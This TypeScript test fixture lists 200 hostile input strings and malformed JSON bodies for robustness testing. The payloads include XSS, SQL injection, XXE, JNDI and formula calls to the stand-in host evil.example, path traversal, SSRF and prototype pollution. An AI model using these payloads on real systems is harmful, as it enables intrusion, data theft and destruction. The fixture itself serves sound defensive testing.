const repeated = (count: number, text: string): string => text.repeat(count);

/** What the text is meant to do, with the texts; 200 in all. */
const groups = {
  'scripts in markup': [
    '<script>alert(1)</script>', '"><script>alert(1)</script>', "'><script>alert(1)</script>", '</script><script>alert(1)</script>', '<img src=x onerror=alert(1)>', '"><img src=x onerror=alert(1)>', '<svg onload=alert(1)>', '<svg><script>alert&#40;1&#41;</script>',
    '<body onload=alert(1)>', '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<a href="javascript:alert(1)">x</a>', '<a href="java&#x09;script:alert(1)">x</a>', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<details open ontoggle=alert(1)>', '<input autofocus onfocus=alert(1)>', '<video><source onerror=alert(1)></video>', '<object data="data:text/html,<script>alert(1)</script>"></object>', '<embed src="javascript:alert(1)">', '<link rel=stylesheet href="//evil.example/x.css">',
    '<meta http-equiv=refresh content="0;url=//evil.example">', '<base href="//evil.example/">', '<form action="//evil.example"><button>x</button></form>', '<template><script>alert(1)</script></template>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<!--><img src=x onerror=alert(1)>-->', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<img src=x:alert(1) onerror=eval(src)>', '\\x3cscript\\x3ealert(1)\\x3c/script\\x3e', '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e', '%3Cscript%3Ealert(1)%3C/script%3E',
    '&lt;script&gt;alert(1)&lt;/script&gt;', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-', 'javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'vbscript:msgbox(1)', '" onmouseover="alert(1)', "' autofocus onfocus='alert(1)",
  ],
  'markup and style': [
    '<b>bold</b>', '<h1>Total: 0</h1>', '<table><tr><td>x', '<style>*{display:none}</style>', '</td></tr></table>', '<div style="position:fixed;inset:0">', '&amp;&lt;&gt;&quot;&#39;', '&nbsp;', '<', '>', '<>', '</', '<!--', ']]>', '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', 'expression(alert(1))',
    '@import url(//evil.example/x.css)', 'url("javascript:alert(1)")',
  ],
  'templates': [
    '{{7*7}}', '{{constructor.constructor("alert(1)")()}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '{%raw%}x{%endraw%}', '[[7*7]]', '{{_self.env}}', '$(id)', '`id`', '%{7*7}', '*{7*7}', '${jndi:ldap://evil.example/a}', '{0}', '%s%s%s%n', '@:nav.connections', '{count} | {n} plural | other',
  ],
  'SQL and SOQL': [
    "' OR '1'='1", "' OR 1=1 --", "'; DROP TABLE connection; --", '"; DROP SCHEMA auth CASCADE; --', "1' UNION SELECT null, version() --", "1; SELECT pg_sleep(10) --", "'||(SELECT current_user)||'", "\\'; SELECT 1; --", 'x" OR "1"="1', "') OR ('1'='1", '/* */ OR 1=1', "1/**/OR/**/1=1", '$$; SELECT 1; $$', "E'\\x27'", "' AND 1=CAST((SELECT version()) AS int) --",
    "%' --", '%', '_', '\\', "'", '"', '`', ';', '--', "O'Brien", "' OR Name != '", "\\' OR Id != null OR Name = \\'", "Name = 'x' LIMIT 1", "(SELECT Id FROM User)", "x') FROM Account WHERE (Name = 'y", 'Id, (SELECT Id FROM Contacts)', "read_csv_auto('/etc/passwd')", "'; ATTACH 'x.db'; --", "'; COPY (SELECT 1) TO '/tmp/x'; --", "'; INSTALL httpfs; --",
  ],
  'formulas of spreadsheets': [
    '=1+1', '=HYPERLINK("http://evil.example","x")', "=cmd|' /C calc'!A0", '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', '\r=1+1', '\n=1+1', '=IMPORTXML("http://evil.example","//x")', '=WEBSERVICE("http://evil.example")', '\uff1d1+1', '\uff0b1', '\uff0d1', '\uff20x', '-', '"=1+1"', '=1+1";"x', 'x,=1+1', 'x\r\n=1+1',
  ],
  'characters that hide or break': [
    '\u0000', 'a\u0000b', '\u0000=1', '\u0001\u0002\u0003', '\u0007', '\u0008\u0008\u0008', '\u001b[31mred\u001b[0m', '\u007f', '\u0085', '\u00ad', '\u200b', 'a\u200bb', '\u200e\u200f', '\u202egnp.exe', '\u202a\u202b\u202c\u202d', '\u2066\u2067\u2068\u2069', '\u2028', '\u2029', '\ufeff', '\ufffd', '\uffff', '\ud800', 'a\udc00b', '\ud83d\ude00', '\u0430pple.com',
    'e\u0301', `Z${repeated(60, '\u0351')}`, '\u{e0001}\u{e0041}', ' ', '   ', '\t', '\n', '\r\n', ' lead and trail ', '\u00a0', '\u3000',
  ],
  'paths and headers': [
    '../../../../etc/passwd', '..\\..\\..\\windows\\win.ini', '%2e%2e%2f%2e%2e%2f', '..%252f..%252f', '/etc/passwd', 'C:\\windows\\win.ini', 'file:///etc/passwd', '//evil.example', 'x\r\nSet-Cookie: sid=1', 'x\r\n\r\n<script>alert(1)</script>', 'x%0d%0aSet-Cookie:%20sid=1', 'http://169.254.169.254/latest/meta-data/',
  ],
  'names of objects and numbers': [
    '__proto__', 'constructor', 'prototype', 'toString', '__proto__[admin]', 'hasOwnProperty', 'null', 'undefined', 'true', 'NaN', 'Infinity', '-0', '1e309', '9007199254740993', '99999999999999999999999999999999999999', '0x7f', '1_000', '00', '{"$gt":""}', '["x"]', '{"__proto__":{"admin":true}}', '\\u0000',
  ],
} as const;

/** One text that somebody hostile, or nobody careful, put into a name, a label or a field. */
export interface HostileText {
  readonly group: keyof typeof groups;
  readonly text: string;
}

/** 200 texts that must come back as they were, or be refused: never run, never obeyed, never the cause of a failure of ours. */
export const hostileTexts: readonly HostileText[] = Object.entries(groups).flatMap(([group, texts]) => texts.map((text): HostileText => ({ group: group as keyof typeof groups, text })));

/** Bodies that are JSON at its edges, or none. */
export const hostileBodies: readonly string[] = [
  '', '{', '[', 'null', 'true', '0', '"x"', '[]', '{}', '{"a":1,}', "{'a':1}", '{"a":undefined}', 'NaN', '{"__proto__":{"role":"owner"}}', '{"constructor":{"prototype":{"role":"owner"}}}', '{"a":1,"a":2}', '{"a":"\\ud800"}', '{"a":"\\u0000"}', '{"\\u0000":1}', '\ufeff{}', '{"a":1e400}', '{"a":-1e400}',
  `{"a":${'9'.repeat(400)}}`, `{"a":"${'x'.repeat(300_000)}"}`, `${'['.repeat(5_000)}${']'.repeat(5_000)}`, `${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}`, '{"a":1}{"b":2}', '<xml/>', 'a=1&b=2', '{"":""}', '{"length":-1}', '{"toString":1}',
];
